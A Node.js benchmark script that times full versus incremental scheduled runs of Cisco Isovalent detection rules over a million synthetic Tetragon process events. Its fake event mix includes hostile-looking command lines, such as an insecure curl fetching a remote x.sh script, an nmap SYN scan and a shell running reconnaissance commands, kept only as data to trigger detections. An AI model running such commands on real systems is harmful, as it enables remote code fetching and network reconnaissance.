#!/usr/bin/env node
// Scheduled run of the whole Cisco Isovalent pack over an hour holding 1M events: a full scan of the store
// per detection (what a plain scheduler does) against the incremental path (filter prefixes evaluated at
// ingest, the run aggregates only their matches). Results must be identical; times are printed.
//   npm run build && node bench/schedule.mjs [--events 1000000]
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { processExec, rng } from '../scripts/tetragon-factory.mjs';

const { openStore } = await import('../dist/store/sqlite-store.js');
const { loadContent } = await import('../dist/detections/content.js');
const { runSearch } = await import('../dist/spl/index.js');
const { toObject } = await import('../dist/events/result.js');
const { MatchIndex } = await import('../dist/schedule/incremental.js');
const { searchWindow } = await import('../dist/schedule/window.js');
const { expandMacros } = await import('../dist/spl/macros/macros.js');

const args = process.argv.slice(2);
const EVENTS = Number(args.includes('--events') ? args[args.indexOf('--events') + 1] : 1_000_000);
const dir = mkdtempSync(join(tmpdir(), 'vigil-bench-schedule-'));
const pack = loadContent();
const detections = pack.detections.filter((d) => d.name.startsWith('Cisco Isovalent - '));
const T = Math.floor(Date.now() / 1000 / 3600) * 3600; // the scheduled time: the top of this hour
const from = T - 70 * 60;
const span = 60 * 60; // the seed window [-70m@m, -10m@m)

// A realistic mix for a tuned cluster: most pods run allowlisted images, interactive shells are rare
// (~1%), ~2% curl (a quarter of it with -k), a few offensive tools and cron calls.
const r = rng(11);
const IMAGES = ['docker.io/library/ubuntu:22.04', 'docker.io/grafana/grafana:12.0.1', 'quay.io/isovalent/tetragon-ci:v1.2.0', 'docker.io/library/ubuntu:22.04', 'docker.io/acme/unknown:0.1'];
const PROCS = [
  [700, '/usr/local/bin/node', 'server.js --port 8080'],
  [120, '/usr/bin/python3', '/app/worker.py --queue orders'],
  [70, '/bin/cat', '/proc/self/status'],
  [54, '/bin/ls', '-la /var/lib/app'],
  [15, '/usr/bin/curl', '-s https://api.internal/health'],
  [5, '/usr/bin/curl', '-sSLk https://203.0.113.9/x.sh'],
  [10, '/bin/sh', '-c "id; uname -a"'],
  [4, '/bin/ps', 'aux'],
  [1, '/usr/bin/crontab', '-l'],
  [1, '/usr/bin/nmap', '-sS 10.0.0.0/24'],
];
const total = PROCS.reduce((s, p) => s + p[0], 0);
const pods = Array.from({ length: 60 }, (_, i) => ({
  name: `svc-${i}-7f9d4c8b6-${(i * 7919).toString(36).slice(0, 5)}`,
  namespace: ['shop', 'payments', 'ci'][i % 3],
  image: i % 20 === 0 ? IMAGES[4] : IMAGES[i % 4],
  containerId: (i.toString(16) + 'c'.repeat(64)).slice(0, 64),
  containerName: 'app',
  containerStart: '2026-11-20T09:00:00.000000000Z',
}));
function event(n) {
  let x = r() * total;
  let p = PROCS[0];
  for (const c of PROCS) if ((x -= c[0]) <= 0) {
    p = c;
    break;
  }
  const time = from + (n * span) / EVENTS;
  const pod = pods[n % pods.length];
  const ev = processExec({ time, node: `node-${n % 4}`, cluster: 'bench', process: { binary: p[1], args: p[2], pid: 100000 + n, start: time - 0.001, pod }, parent: { binary: '/bin/sh', pid: 90000 + (n % 1000), start: time - 60, pod } });
  return { _time: time, index: 'main', sourcetype: 'cisco:isovalent:processExec', source: 'bench', host: `node-${n % 4}`, _raw: JSON.stringify(ev) };
}

const store = await openStore(dir);
const index = new MatchIndex(-Infinity, 6 * 3600);
index.setDetections(detections, pack, 'UTC');
let observeMs = 0;
let pending = [];
const t0 = performance.now();
for (let i = 0; i < EVENTS; i += 1000) {
  const batch = [];
  for (let j = i; j < Math.min(EVENTS, i + 1000); j++) batch.push(event(j));
  // As the collector does: once the batch is committed, the index sees it with its store seqs.
  pending.push(
    store.append(batch).then(({ firstSeq }) => {
      const t = performance.now();
      index.observe(batch, firstSeq);
      observeMs += performance.now() - t;
    }),
  );
  if (pending.length >= 16) {
    await Promise.all(pending);
    pending = [];
  }
}
await Promise.all(pending);
const ingestS = (performance.now() - t0) / 1000;
process.stdout.write(`ingest: ${EVENTS.toLocaleString('en-US')} events into the store in ${ingestS.toFixed(1)} s; incremental prefix evaluation cost ${(observeMs / 1000).toFixed(2)} s (${Math.round(EVENTS / (observeMs / 1000)).toLocaleString('en-US')} events/s), ${index.stats().matches.toLocaleString('en-US')} matches kept\n`);

async function runAll(incremental) {
  const rows = [];
  const t = performance.now();
  for (const d of detections) {
    const w = searchWindow(d.schedule, T, 'UTC');
    const search = expandMacros(d.search, pack.macros).text;
    const t1 = performance.now();
    // Incremental: the same search over only the matches, read back from the store by seq.
    const source = incremental ? store.subset(index.matches(d.id, w.earliest, w.latest)) : store;
    const { results } = await runSearch(search, { lookups: pack.lookups, source, now: T, earliest: w.earliest, latest: w.latest, defaultIndexes: ['main'] });
    rows.push(results.map((r) => JSON.stringify(toObject(r))));
    if (process.env.BENCH_DETAIL) process.stderr.write(`  ${incremental ? "inc " : "full"} ${d.name}: ${((performance.now() - t1) / 1000).toFixed(2)} s, ${incremental ? index.matches(d.id, w.earliest, w.latest).length + " matches, " : ""}${results.length} rows\n`);
  }
  return { secs: (performance.now() - t) / 1000, rows };
}
const full = await runAll(false);
const inc = await runAll(true);
const same = JSON.stringify(full.rows) === JSON.stringify(inc.rows);
const count = (x) => x.rows.reduce((a, b) => a + b.length, 0);
process.stdout.write(`scheduled run of the 10 detections, full scans:  ${full.secs.toFixed(2)} s (${count(full)} result rows)\n`);
process.stdout.write(`scheduled run of the 10 detections, incremental: ${inc.secs.toFixed(2)} s (${count(inc)} result rows) — x${(full.secs / inc.secs).toFixed(1)} faster, results ${same ? 'identical' : 'DIFFERENT'}\n`);
process.stdout.write(`target: incremental scheduled run of the pack over 1M events in < 1 s\n`);
await store.close();
rmSync(dir, { recursive: true, force: true });
if (!same) process.exitCode = 1;
